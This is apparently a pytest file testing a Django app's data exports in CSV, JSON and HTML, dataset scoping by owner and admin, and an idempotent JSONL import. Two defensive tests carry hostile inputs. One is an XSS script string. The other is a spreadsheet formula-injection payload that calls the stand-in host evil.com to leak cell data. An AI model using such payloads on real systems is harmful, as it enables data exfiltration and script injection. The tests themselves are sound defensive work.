"""Exports row by row in each format (jobs, pool and farm datasets), and the JSONL import."""

from __future__ import annotations

import csv
import io
import json
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest

from coordinator.models import User
from jobs.models import Job, JobFile
from jobs.services import job_create, job_execute

pytestmark = pytest.mark.django_db


def run_export(user: User, fmt: str, data: dict) -> tuple[Job, Path]:
    job = job_create(type=f"{fmt}_export", data=data, user=user)
    job_execute(job_id=job.pk)
    job.refresh_from_db()
    assert job.status == "success", job.error
    return job, Path(job.result["filename"])


@pytest.fixture
def owned(user: User, master: User):
    """Some jobs, a pool task with two devices (one answered), and a farm run, for `user`;
    plus someone else's rows that must never appear in `user`'s export."""
    from farm.services import run_create, task_get_or_materialise
    from pool.services import device_create, response_create, task_create

    mine = [job_create(type="test.main.add", data={"x": i, "y": 1}, user=user) for i in range(3)]
    job_execute(job_id=mine[0].pk)
    job_create(type="test.main.add", data={"x": 9, "y": 9}, user=master)
    d1, _ = device_create(name="a", kind="sensor", validated=True)
    d2, _ = device_create(name="b", kind="sensor", validated=True)
    task = task_create(user=user, to=f"device:[{d1.pk},{d2.pk}]", title="reboot, now")
    response_create(device=d1, parent_id=task.msg_id, status="done", body='said "ok"')
    task_create(user=master, to=f"device:{d1.pk}", title="not yours")
    run = run_create(owner=user, num_tasks=5)
    task_get_or_materialise(run=run, number=2)
    run_create(owner=master, num_tasks=1)
    return {"jobs": mine, "pool_task": task, "run": run}


def test_csv_export_row_by_row(user, owned, export_root: Path):
    job, name = run_export(user, "csv", {})
    rows = list(csv.DictReader(io.StringIO((export_root / name).read_text(encoding="utf-8"))))
    by_set: dict[str, list[dict]] = {}
    for row in rows:
        by_set.setdefault(row["dataset"], []).append(row)
    # jobs: the user's 3 add jobs plus the export itself, in id order
    assert [int(r["id"]) for r in by_set["jobs"]] == [j.pk for j in owned["jobs"]] + [job.pk]
    first = by_set["jobs"][0]
    assert (first["type"], first["status"], first["result"]) == ("test.main.add", "success", "1")
    assert json.loads(first["data"]) == {"x": 0, "y": 1}
    assert first["created_by"] == user.email
    # pool: one row per task x device, with the response of the device that answered
    pool = by_set["pool"]
    assert [r["title"] for r in pool] == ["reboot, now", "reboot, now"]
    assert [r["state"] for r in pool] == ["done", "pending"]
    assert json.loads(pool[0]["responses"])[0]["body"] == 'said "ok"'
    assert pool[1]["responses"] in ("", "[]")
    # farm: the user's run only, one row per materialised task
    assert [(r["run_uuid"], r["task"]) for r in by_set["farm"]] == [(str(owned["run"].uuid), "2")]
    assert job.result["rows"] == {"pool": 2, "farm": 1, "jobs": 4, "audit": 0}  # the user took no operator action
    assert re.fullmatch(r"export_\d{6}_[A-Za-z0-9]{8}\.csv", str(name))
    stored = JobFile.objects.get(filename=str(name))
    assert (stored.owner, stored.format, stored.job_id) == (user, "csv", job.pk)
    assert stored.size == (export_root / name).stat().st_size


def test_json_export_row_by_row_with_chosen_datasets(user, owned, export_root: Path):
    _job, name = run_export(user, "json", {"datasets": ["pool", "jobs"]})
    rows = json.loads((export_root / name).read_text(encoding="utf-8"))
    assert [r["dataset"] for r in rows] == ["pool", "pool", "jobs", "jobs", "jobs", "jobs"]
    assert rows[0]["title"] == "reboot, now" and rows[0]["state"] == "done"
    assert rows[2]["data"] == {"x": 0, "y": 1} and rows[2]["result"] == 1
    assert [r["id"] for r in rows[2:5]] == [j.pk for j in owned["jobs"]]


class _Tables(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.sections: dict[str, list[list[str]]] = {}
        self.current: str | None = None
        self.row: list[str] | None = None
        self.cell: list[str] | None = None
        self.title = ""
        self._in_title = False

    def handle_starttag(self, tag, attrs):
        if tag == "section":
            self.current = dict(attrs)["id"]
            self.sections[self.current] = []
        elif tag == "tr":
            self.row = []
        elif tag in ("td", "th"):
            self.cell = []
        elif tag == "h1":
            self._in_title = True

    def handle_endtag(self, tag):
        if tag in ("td", "th") and self.row is not None and self.cell is not None:
            self.row.append("".join(self.cell))
            self.cell = None
        elif tag == "tr" and self.current and self.row is not None:
            self.sections[self.current].append(self.row)
            self.row = None
        elif tag == "h1":
            self._in_title = False

    def handle_data(self, data):
        if self.cell is not None:
            self.cell.append(data)
        if self._in_title:
            self.title += data


def test_html_export_is_a_readable_page_row_by_row(user, owned, export_root: Path):
    Job.objects.filter(pk=owned["jobs"][1].pk).update(data={"x": "<script>alert(1)</script>"})
    _job, name = run_export(user, "html", {"datasets": ["jobs", "farm"]})
    text = (export_root / name).read_text(encoding="utf-8")
    assert text.startswith("<!DOCTYPE html>") and "<script>alert" not in text
    parsed = _Tables()
    parsed.feed(text)
    assert parsed.title == "Coordinator export"
    header, *rows = parsed.sections["jobs"]
    assert header[:3] == ["id", "type", "status"]
    assert [int(r[0]) for r in rows[:3]] == [j.pk for j in owned["jobs"]]
    assert json.loads(rows[1][3]) == {"x": "<script>alert(1)</script>"}
    farm_header, *farm_rows = parsed.sections["farm"]
    assert farm_rows[0][farm_header.index("task")] == "2"


def test_everything_is_for_admins_only(user, admin, owned, export_root: Path):
    job = job_create(type="json_export", data={"datasets": ["jobs"], "everything": True}, user=user)
    job_execute(job_id=job.pk)
    job.refresh_from_db()
    assert job.status == "failure" and "Only admins" in job.error
    _job, name = run_export(admin, "json", {"datasets": ["jobs"], "everything": True})
    rows = json.loads((export_root / name).read_text())
    assert len(rows) == Job.objects.count()


def test_failed_export_leaves_no_file(user, export_root: Path, monkeypatch):
    from jobs import exports

    def broken(*, user, everything):
        yield {"id": 1}
        raise RuntimeError("database went away")

    monkeypatch.setitem(exports._DATASETS, "jobs", exports.ExportDataset("jobs", "Jobs", ("id",), broken))
    job = job_create(type="csv_export", data={"datasets": ["jobs"]}, user=user)
    job_execute(job_id=job.pk)
    job.refresh_from_db()
    assert job.status == "failure" and "database went away" in job.error
    assert list(export_root.iterdir()) == [] and not JobFile.objects.exists()


def _day_file(path: Path, device_id: int) -> Path:
    good = {
        "id": "msg_" + "c" * 32,
        "ts": "2026-06-03T12:34:56Z",
        "from": "user:boss@example.com",
        "to": f"device:{device_id}",
        "type": "task",
        "title": "t",
        "body": "",
        "parent_id": None,
        "meta": {},
    }
    other = {**good, "id": "msg_" + "d" * 32, "title": "u"}
    path.write_text(
        json.dumps(good) + "\n{broken\n" + json.dumps(other) + "\n" + json.dumps({**good, "to": "x"}) + "\n"
    )
    return path


def test_jsonl_import_is_idempotent_with_a_per_line_report(master, export_root: Path):
    from pool.models import Message
    from pool.services import device_create

    device, _ = device_create(name="a", kind="sensor", validated=True)
    _day_file(export_root / "upload_260603_abcdefgh.jsonl", device.pk)
    JobFile.objects.create(
        filename="upload_260603_abcdefgh.jsonl",
        owner=master,
        format="jsonl",
        uploaded=True,
        size=(export_root / "upload_260603_abcdefgh.jsonl").stat().st_size,
    )
    results = []
    for _ in range(2):
        job = job_create(type="jsonl_import", data={"filename": "upload_260603_abcdefgh.jsonl"}, user=master)
        job_execute(job_id=job.pk)
        job.refresh_from_db()
        assert job.status == "success", job.error
        results.append(job.result)
    assert (results[0]["created"], results[0]["skipped"]) == (2, 0)
    assert [e["line"] for e in results[0]["errors"]] == [2, 4]
    # The result names the upload as its owner knows it, never a path of the server.
    assert {e["file"] for e in results[0]["errors"]} == {"upload_260603_abcdefgh.jsonl"}
    assert str(export_root) not in json.dumps(results)
    assert (results[1]["created"], results[1]["skipped"]) == (0, 2)
    assert Message.objects.count() == 2


def test_jsonl_import_of_someone_elses_upload_fails(master, user, export_root: Path):
    from django.contrib.auth.models import Permission

    from jobs.selectors import job_permissions_sync

    (export_root / "upload_260603_zzzzzzzz.jsonl").write_text("")
    JobFile.objects.create(filename="upload_260603_zzzzzzzz.jsonl", owner=user, format="jsonl", uploaded=True)
    job = job_create(type="jsonl_import", data={"filename": "upload_260603_zzzzzzzz.jsonl"}, user=master)
    job_execute(job_id=job.pk)
    job.refresh_from_db()
    assert job.status == "failure" and "no uploaded file" in job.error
    job_permissions_sync()
    assert Permission.objects.filter(codename="run_jsonl_import").exists()


def test_datasets_are_the_ones_each_app_registers(user):
    from jobs.exports import dataset_names

    assert dataset_names() == ["pool", "farm", "jobs", "audit"]  # INSTALLED_APPS order
    from jobs.errors import ArgumentError

    # An unknown name is refused when the job is submitted, before anything runs.
    with pytest.raises(ArgumentError, match="datasets"):
        job_create(type="csv_export", data={"datasets": ["secrets"]}, user=user)
    assert not Job.objects.exists()


def test_an_import_without_a_user_sees_no_upload(master, export_root: Path):
    from jobs.context import JobContext
    from pool.jobs import jsonl_import

    (export_root / "upload_260603_nouserxx.jsonl").write_text("")
    JobFile.objects.create(filename="upload_260603_nouserxx.jsonl", owner=master, format="jsonl", uploaded=True)
    with pytest.raises(FileNotFoundError):
        jsonl_import(
            JobContext(job_id=0, job_type="jsonl_import", user_id=None, worker="w"),
            filename="upload_260603_nouserxx.jsonl",
        )


def test_csv_cells_that_would_run_as_formulas_arrive_as_text(master, admin, export_root: Path):
    """A device registered anonymously as `=HYPERLINK(…)` reaches the admin's spreadsheet as text."""
    from pool.services import device_create, task_create

    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]
    for name in hostile:
        device, _ = device_create(name=name, kind="sensor", validated=True)
        task_create(user=master, to=f"device:{device.pk}", title=name)
    _job, name = run_export(admin, "csv", {"datasets": ["pool"], "everything": True})
    with (export_root / name).open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    titles = [row["title"] for row in rows if row["dataset"] == "pool"]
    assert sorted(titles) == sorted("'" + name for name in hostile)
    assert all(not title.startswith(("=", "+", "-", "@", "\t", "\r")) for title in titles)


def test_the_sweep_removes_what_killed_exports_left_behind(export_root: Path):
    import os
    import time

    from jobs.exports import ORPHAN_PART_SECONDS, orphan_parts_remove

    old, writing, done = export_root / ".export_a.csv.part", export_root / ".export_b.csv.part", export_root / "x.csv"
    for path in (old, writing, done):
        path.write_text("rows")
    long_ago = time.time() - ORPHAN_PART_SECONDS - 60
    os.utime(old, (long_ago, long_ago))
    os.utime(done, (long_ago, long_ago))
    assert orphan_parts_remove() == [old.name]
    assert not old.exists() and writing.exists() and done.exists()
